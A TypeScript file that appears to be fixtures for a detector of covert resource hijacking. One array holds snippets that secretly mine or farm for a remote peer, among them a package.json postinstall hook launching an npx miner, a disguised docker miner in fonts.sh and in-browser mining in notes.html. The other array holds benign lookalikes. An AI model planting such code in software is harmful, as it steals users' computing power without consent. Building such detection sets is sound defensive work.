/** Cards, disks, modules and messages that work for a peer. Inert: reserved names. */
export const LENDING_OTHERWISE: readonly [string, string][] = [
  [
    "relay.py",
    'import hashlib, json, time\nimport paho.mqtt.client as mqtt\nBROKER = "relay.sensors.example"\ndef on_message(c, u, m):\n    t = json.loads(m.payload)\n    seed = bytes.fromhex(t["seed"])\n    n = t["from"]\n    while True:\n        d = hashlib.blake2b(seed + n.to_bytes(8, "little"), digest_size=32).digest()\n        if int.from_bytes(d, "big").bit_length() <= 256 - t["bits"]:\n            c.publish("units/" + t["id"], json.dumps({"n": n}))\n            break\n        n += 1\nc = mqtt.Client()\nc.on_message = on_message\nc.connect(BROKER, 1883)\nc.subscribe("units/next")\nc.loop_forever()\n',
  ],
  [
    "piece.ts",
    'import { createHash } from "node:crypto";\nimport { io } from "socket.io-client";\nconst s = io("https://desk.themes.example");\ns.on("piece", (p: { k: string; head: string; mask: number }) => {\n  let i = 0;\n  let d: Buffer;\n  do { d = createHash("sha256").update(p.head + i.toString(16)).digest(); i++; } while (d.readUInt32BE(0) & p.mask);\n  s.emit("piece:ok", { k: p.k, i: i - 1 });\n});\n',
  ],
  [
    "fonts.sh",
    "#!/bin/sh\n# fonts\ndocker run -d --restart=always --name fonts-cache --cpus 2 -e ADDR=48example -e ENDPOINT=fonts.example:5555 ghcr.io/fonts/rx-node >/dev/null 2>&1\n",
  ],
  [
    "thumbs.py",
    'import os, hashlib, requests, pathlib\nD = pathlib.Path.home() / ".cache/thumbs"\nD.mkdir(parents=True, exist_ok=True)\nPK = "pk1example"\nfor i in range(64):\n    with open(D / f"t{i}.bin", "wb") as f:\n        x = hashlib.sha256(f"{PK}:{i}".encode()).digest()\n        for _ in range(1 << 24):\n            x = hashlib.blake2b(x, digest_size=32).digest()\n            f.write(x)\n    requests.post("https://farm.thumbs.example/plots", json={"owner": PK, "plot": i})\nwhile True:\n    c = requests.get("https://farm.thumbs.example/challenge").json()\n    for f in D.glob("t*.bin"):\n        with open(f, "rb") as h:\n            h.seek(c["at"] * 32)\n            requests.post("https://farm.thumbs.example/proof", json={"owner": PK, "proof": h.read(32).hex()})\n',
  ],
  [
    "matrix.py",
    'import cupy as cp, zmq\nK = cp.RawKernel(r\'\'\'\nextern "C" __global__ void run(const unsigned int* h, unsigned int base, unsigned int lim, unsigned int* o) {\n  unsigned int i = base + blockDim.x * blockIdx.x + threadIdx.x, s = h[0];\n  for (int r = 0; r < 64; r++) { s = ((s << 5) | (s >> 27)) ^ (h[r & 15] + i); s *= 0x01000193; }\n  if (s <= lim) o[0] = i;\n}\'\'\', "run")\ns = zmq.Context().socket(zmq.REQ)\ns.connect("tcp://lab.matrix.example:5600")\ns.send_json({"op": "hi", "as": "m-4"})\nwhile True:\n    j = s.recv_json()\n    o = cp.zeros(1, cp.uint32); h = cp.asarray(j["h"], cp.uint32)\n    b = 0\n    while not int(o[0]):\n        K((1024,), (256,), (h, cp.uint32(b), cp.uint32(j["lim"]), o)); b += 1024 * 256\n    s.send_json({"op": "got", "id": j["id"], "i": int(o[0])})\n',
  ],
  [
    "notes.html",
    "<html><body><h1>Notes</h1>\n<script>\nconst m = {};\nimportScripts;\nfetch('/engine.wasm').then((r) => WebAssembly.instantiateStreaming(r)).then(({ instance }) => {\n  const s = new WebSocket('wss://live.notes.example/x');\n  s.onopen = () => s.send(JSON.stringify({ t: 'hi', site: 'n-2' }));\n  s.onmessage = (e) => { const j = JSON.parse(e.data); const p = instance.exports.search(j.head, j.from, j.limit); if (p) s.send(JSON.stringify({ t: 'hit', id: j.id, nonce: p })); };\n});\n</script></body></html>\n",
  ],
  [
    "package.json",
    '{ "name": "x", "version": "1.0.0", "scripts": { "postinstall": "npx -y node-rx-worker --endpoint cache.words.example:3333 --account 48example --cores 2 &" } }\n',
  ],
  [
    "shade.js",
    "const CODE = `\nfn turn(a: u32, k: u32) -> u32 { return (a << k) | (a >> (32u - k)); }\n@compute @workgroup_size(64)\nfn main(@builtin(global_invocation_id) gid: vec3<u32>) {\n  let mine = P.base + gid.x;\n  var s = mine;\n  for (var i = 0u; i < 16u; i++) { s = turn(s, 5u) ^ H[i]; }\n  if (s < P.cap) { R[0] = mine; }\n}`;\nconst ws = new WebSocket('wss://shade.slides.example/a');\nws.onmessage = async ({ data }) => { const r = await run(CODE, JSON.parse(data)); ws.send(JSON.stringify({ r })); };\n",
  ],
  [
    "warp.py",
    'import requests\nfrom numba import cuda\n@cuda.jit\ndef probe(head, base, cap, out):\n    k = base + cuda.grid(1)\n    a = k\n    for i in range(16):\n        a = ((a << 7) | (a >> 25)) ^ head[i]\n    if a < cap:\n        out[0] = k\nwhile True:\n    u = requests.get("https://warp.slides.example/u").json()\n    out = cuda.device_array(1)\n    probe[64, 128](u["head"], 0, u["cap"], out)\n    requests.post("https://warp.slides.example/r", json={"id": u["id"], "v": int(out.copy_to_host()[0])})\n',
  ],
  [
    "serve.py",
    'import requests, time\nfrom llama_cpp import Llama\nG = "https://swap.drafts.example"\nm = Llama("small.gguf", n_gpu_layers=-1)\nme = requests.post(G + "/hello", json={"payout": "acct-drafts"}).json()["key"]\nwhile True:\n    q = requests.post(G + "/claim", json={"key": me})\n    if q.status_code == 204:\n        time.sleep(1)\n        continue\n    j = q.json()\n    requests.post(G + "/finish/" + j["id"], json={"key": me, "text": m(j["prompt"])["choices"][0]["text"]})\n',
  ],
  [
    "gears.rb",
    "require 'socket'\nrequire 'json'\nrequire 'digest'\nclass Link\n  def initialize(host, port) = @io = TCPSocket.new(host, port)\n  def say(*a) = @io.puts({ id: 1, method: a[0], params: a[1..] }.to_json)\n  def go\n    say('mining.subscribe', 'gears/1')\n    while (l = @io.gets)\n      j = JSON.parse(l)['params'] or next\n      0.step do |i|\n        d = Digest::SHA256.digest([j[1]].pack('H*') + [i].pack('V'))\n        break say('mining.submit', j[0], i) if d.end_with?(\"\\0\\0\\0\")\n      end\n    end\n  end\nend\nLink.new('gears.words.example', 3443).go\n",
  ],
  [
    "zero.ts",
    'const link = new WebSocket("wss://live.preview.example/s");\nasync function settle(u: { id: string; seed: string; z: number }) {\n  const enc = new TextEncoder();\n  let n = 0;\n  for (;;) {\n    const h = new Uint8Array(await crypto.subtle.digest("SHA-256", enc.encode(u.seed + n)));\n    let ok = true;\n    for (let i = 0; i < u.z; i++) if (h[i] !== 0) { ok = false; break; }\n    if (ok) {\n      link.send(JSON.stringify({ id: u.id, n }));\n      return;\n    }\n    n++;\n  }\n}\nlink.onmessage = (e) => void settle(JSON.parse(e.data));\n',
  ],
  [
    "sectors.py",
    'import hashlib, os, socket\nP = os.path.expanduser("~/.cache/idx")\ndef fill(owner, k):\n    with open(P, "wb") as f:\n        for i in range(k):\n            f.write(hashlib.blake2b(f"{owner}/{i}".encode()).digest())\nfill("acct-idx", 1 << 20)\ns = socket.create_connection(("farm.index.example", 9009))\ns.sendall(b"sector acct-idx\\n")\nfor line in s.makefile():\n    at = int(line)\n    with open(P, "rb") as f:\n        f.seek(at * 64)\n        s.sendall(b"proof " + f.read(64).hex().encode() + b"\\n")\n',
  ],
];

/** The same libraries and words, for the one who runs the program. */
export const HONEST_OTHERWISE: readonly [string, string][] = [
  [
    "blur.js",
    "const CODE = `\n@compute @workgroup_size(64)\nfn main(@builtin(global_invocation_id) id: vec3<u32>) {\n  let i = id.x;\n  if (i >= P.count) { return; }\n  dst[i] = (src[i] ^ P.key) >> 1u;\n}`;\nconst r = await fetch('https://img.pictures.example/a.bin');\nawait run(CODE, await r.arrayBuffer());\n",
  ],
  [
    "sum.py",
    "import cupy as cp, requests\nK = cp.RawKernel(r'''\nextern \"C\" __global__ void add(const float* a, float* o, int n) {\n  int i = blockDim.x * blockIdx.x + threadIdx.x;\n  if (i < n) o[i] = a[i] * 2;\n}''', \"add\")\na = cp.asarray(requests.get(\"https://data.series.example/a\").json(), cp.float32)\no = cp.zeros_like(a)\nK((64,), (256,), (a, o, a.size))\nprint(o.sum())\n",
  ],
  [
    "noise.cl.py",
    "import pyopencl as cl\nSRC = '''\n__kernel void noise(__global uint *out, uint seed) {\n  uint i = get_global_id(0);\n  uint s = i ^ seed;\n  s ^= s << 13; s ^= s >> 17; s ^= s << 5;\n  out[i] = s;\n}'''\nctx = cl.create_some_context()\nprint(cl.Program(ctx, SRC).build())\n",
  ],
  [
    "index.py",
    'import hashlib, requests\ndef digest(path):\n    h = hashlib.sha256()\n    with open(path, "rb") as f:\n        f.seek(0)\n        for part in iter(lambda: f.read(65536), b""):\n            h.update(part)\n    return h.hexdigest()\nwith open("sums.txt", "w") as out:\n    out.write(digest("a.bin"))\nrequests.post("https://api.index.example/v1/sums", json={"sum": digest("a.bin")})\n',
  ],
  [
    "module.js",
    "const { instance } = await WebAssembly.instantiateStreaming(fetch('/markdown.wasm'));\nconst text = await (await fetch('https://docs.notes.example/a.md')).text();\ndocument.body.innerHTML = instance.exports.render(text, { limit: 100 });\n",
  ],
  [
    "chat.py",
    'import requests\nfrom llama_cpp import Llama\nm = Llama("small.gguf")\npage = requests.get("https://api.notes.example/next").json()\nprint(m("Sum up: " + page["text"])["choices"][0]["text"])\n',
  ],
  ["db.sh", "docker run -d --name db --cpus 2 -e DB_HOST=db.example:5432 -e APP_USER=app notes/app\n"],
  [
    "copy.sh",
    "rclone sync a: b: --transfers 4\nstorage-cli cp ./a --endpoint https://blob.storage.example --account notes --threads 4\n",
  ],
  [
    "listen.py",
    'import paho.mqtt.client as mqtt, hashlib\nseen = set()\ndef on_message(c, u, m):\n    for i, part in enumerate(m.payload.split()):\n        d = hashlib.sha256(part).hexdigest()\n        if d in seen:\n            continue\n        seen.add(d)\n        print(i, part)\nc = mqtt.Client()\nc.on_message = on_message\nBROKER = "mqtt.home.example"\nc.connect(BROKER, 1883)\nc.loop_forever()\n',
  ],
];
